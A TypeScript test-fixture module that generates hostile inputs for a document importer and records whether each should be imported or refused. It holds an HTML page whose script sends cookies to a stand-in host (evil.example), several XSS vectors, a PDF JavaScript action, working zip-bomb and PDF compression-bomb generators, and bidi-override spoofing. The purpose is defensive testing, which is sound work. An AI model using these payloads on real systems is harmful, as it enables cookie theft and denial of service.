/**
 * Hostile and broken input, made by code so that the project owns its fixtures. `npm run fixtures
 * -- DIR` writes them to a folder; the tests generate them into temp folders.
 */
import { once } from 'node:events'
import { mkdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { createDeflate, createDeflateRaw, crc32 } from 'node:zlib'
import { makePdf, makePdfFixture } from './documents'

/** Strings that must never appear in imported text: they only exist inside active content. */
export const FORBIDDEN_IN_TEXT = [
  'alert(',
  'evil.example',
  '<script',
  'javascript:',
  'onerror',
  'steal(',
  'app.alert'
]

export const HOSTILE_HTML = `<!doctype html>
<html><head>
<title>Port update</title>
<meta http-equiv="refresh" content="0; url=https://evil.example/phish">
<link rel="stylesheet" href="https://evil.example/track.css">
<style>@import url("https://evil.example/more.css"); body { background: url(https://evil.example/bg.png) }</style>
<script>fetch('https://evil.example/steal?c=' + document.cookie); alert(1)</script>
<base href="https://evil.example/">
</head>
<body onload="alert('onload')">
<h1>Port update</h1>
<p>Ships are moving again.<img src="https://evil.example/pixel.gif" onerror="alert('onerror')"></p>
<p><a href="javascript:alert('link')">Read more</a> about the harbour.</p>
<iframe src="https://evil.example/frame" srcdoc="<script>alert('srcdoc')</script>"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">
<form action="https://evil.example/post"><input name="q" value="steal(me)"><button>Go</button></form>
<svg><script>alert('svg')</script></svg>
<noscript><img src="https://evil.example/noscript.gif"></noscript>
<template><script>alert('template')</script></template>
</body></html>`

/**
 * One entry, word/document.xml, of `megabytes` MB of zeros: a few hundred KB compressed. With
 * `declaredBytes`, its headers lie and say it holds that many bytes.
 */
export async function zipBomb(megabytes: number, declaredBytes?: number): Promise<Uint8Array> {
  const deflate = createDeflateRaw({ level: 9 })
  const parts: Buffer[] = []
  deflate.on('data', (c: Buffer) => parts.push(c))
  const chunk = Buffer.alloc(1024 * 1024)
  let crc = 0
  for (let i = 0; i < megabytes; i++) {
    crc = crc32(chunk, crc)
    if (!deflate.write(chunk)) await once(deflate, 'drain')
  }
  deflate.end()
  await once(deflate, 'end')
  const data = Buffer.concat(parts)
  const name = Buffer.from('word/document.xml')
  const size = declaredBytes ?? megabytes * 1024 * 1024
  const local = Buffer.alloc(30)
  local.writeUInt32LE(0x04034b50, 0)
  local.writeUInt16LE(20, 4)
  local.writeUInt16LE(8, 8)
  local.writeUInt32LE(crc >>> 0, 14)
  local.writeUInt32LE(data.length, 18)
  local.writeUInt32LE(size, 22)
  local.writeUInt16LE(name.length, 26)
  const central = Buffer.alloc(46)
  central.writeUInt32LE(0x02014b50, 0)
  central.writeUInt16LE(20, 4)
  central.writeUInt16LE(20, 6)
  central.writeUInt16LE(8, 10)
  central.writeUInt32LE(crc >>> 0, 16)
  central.writeUInt32LE(data.length, 20)
  central.writeUInt32LE(size, 24)
  central.writeUInt16LE(name.length, 28)
  const centralStart = local.length + name.length + data.length
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(central.length + name.length, 12)
  end.writeUInt32LE(centralStart, 16)
  return new Uint8Array(Buffer.concat([local, name, data, central, name, end]))
}

/** A one-page PDF whose content stream is a few hundred KB that inflate to `megabytes` MB of spaces. */
export async function pdfBomb(megabytes: number): Promise<Uint8Array> {
  const deflate = createDeflate({ level: 9 })
  const parts: Buffer[] = []
  deflate.on('data', (c: Buffer) => parts.push(c))
  const chunk = Buffer.alloc(1024 * 1024, 0x20)
  for (let i = 0; i < megabytes; i++) if (!deflate.write(chunk)) await once(deflate, 'drain')
  deflate.end()
  await once(deflate, 'end')
  return makePdfFixture([{ flateContent: new Uint8Array(Buffer.concat(parts)) }])
}

export interface HostileFixture {
  name: string
  /** 'import': becomes plain text; 'refuse': refused with a one-line reason. */
  expect: 'import' | 'refuse'
  reason?: RegExp
}

/** Writes the hostile fixtures into `dir`; returns what each one should do. `overLimitMb` sizes the over-limit file. */
export async function makeHostileFixtures(dir: string, overLimitMb = 6): Promise<HostileFixture[]> {
  await mkdir(dir, { recursive: true })
  const random = new Uint8Array(64 * 1024)
  let seed = 42
  for (let i = 0; i < random.length; i++)
    random[i] = (seed = (seed * 1103515245 + 12345) & 0x7fffffff) & 0xff
  const files: [string, string | Uint8Array][] = [
    ['active-content.html', HOSTILE_HTML],
    [
      'drawing.svg',
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><text>hi</text></svg>'
    ],
    [
      'javascript-action.pdf',
      makePdf(
        [['Quarterly port report', '', 'Throughput fell by a third.']],
        { title: 'Port report' },
        '<< /S /JavaScript /JS (app.alert\\("pwned"\\)) >>'
      )
    ],
    ['zip-bomb.docx', await zipBomb(600)],
    ['lying-zip-bomb.docx', await zipBomb(700, 4096)],
    ['compression-bomb.pdf', await pdfBomb(400)],
    ['over-the-limit.txt', 'x'.repeat(overLimitMb * 1024 * 1024)],
    [
      'invalid-utf8.txt',
      new Uint8Array([0x50, 0x6f, 0x72, 0x74, 0x20, 0xe9, 0x74, 0xe9, 0x20, 0xff, 0xfe, 0x21])
    ],
    ['nul-bytes.txt', new Uint8Array([0x61, 0x62, 0x00, 0x63, 0x00, 0x64])],
    [
      'bidi-override.txt',
      'Invoice for \u202Etxt.exe\u202C payment\nThe \u2066isolated\u2069 word stays.'
    ],
    ['random-binary.txt', random],
    [
      'executable.pdf',
      new Uint8Array([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00])
    ],
    ['empty.md', ''],
    ['single-line.txt', `Start ${'harbour traffic report '.repeat(90_000)}end`],
    // Two million lines of one character: a text that once built a block for each.
    ['one-character-per-line.txt', 'x\n'.repeat(2_000_000)],
    ['one-character-per-line.md', 'y\n\n'.repeat(1_200_000)]
  ]
  for (const [name, content] of files) await writeFile(join(dir, name), content)
  return [
    { name: 'active-content.html', expect: 'import' },
    { name: 'drawing.svg', expect: 'refuse', reason: /^\.svg files are not supported/ },
    { name: 'javascript-action.pdf', expect: 'import' },
    {
      name: 'zip-bomb.docx',
      expect: 'refuse',
      reason: /^the \.docx would expand to 600 MB, more than the 512 MB allowed$/
    },
    {
      name: 'lying-zip-bomb.docx',
      expect: 'refuse',
      reason:
        /^the \.docx expands to more than 256 MB of text and markup \(more than its archive says\): it may be a zip bomb$/
    },
    {
      name: 'compression-bomb.pdf',
      expect: 'refuse',
      reason:
        /^the PDF's compressed contents expand to more than 256 MB: it may be a compression bomb$/
    },
    {
      name: 'over-the-limit.txt',
      expect: 'refuse',
      reason: /^the file is \d+ MB, over the \d+ MB limit for one file$/
    },
    { name: 'invalid-utf8.txt', expect: 'import' },
    {
      name: 'nul-bytes.txt',
      expect: 'refuse',
      reason: /^this is not a text file \(it contains NUL bytes/
    },
    { name: 'bidi-override.txt', expect: 'import' },
    { name: 'random-binary.txt', expect: 'refuse', reason: /^this is not a text file/ },
    { name: 'executable.pdf', expect: 'refuse', reason: /^this is not a PDF file/ },
    { name: 'empty.md', expect: 'refuse', reason: /^the file is empty$/ },
    { name: 'single-line.txt', expect: 'import' },
    { name: 'one-character-per-line.txt', expect: 'import' },
    { name: 'one-character-per-line.md', expect: 'import' }
  ]
}

export * from './hostile-backups'

/** A text of `chars` letters and no space: one "word" as long as the whole document. */
export const oneWordText = (chars: number): string =>
  'harbour'.repeat(Math.ceil(chars / 7)).slice(0, chars)
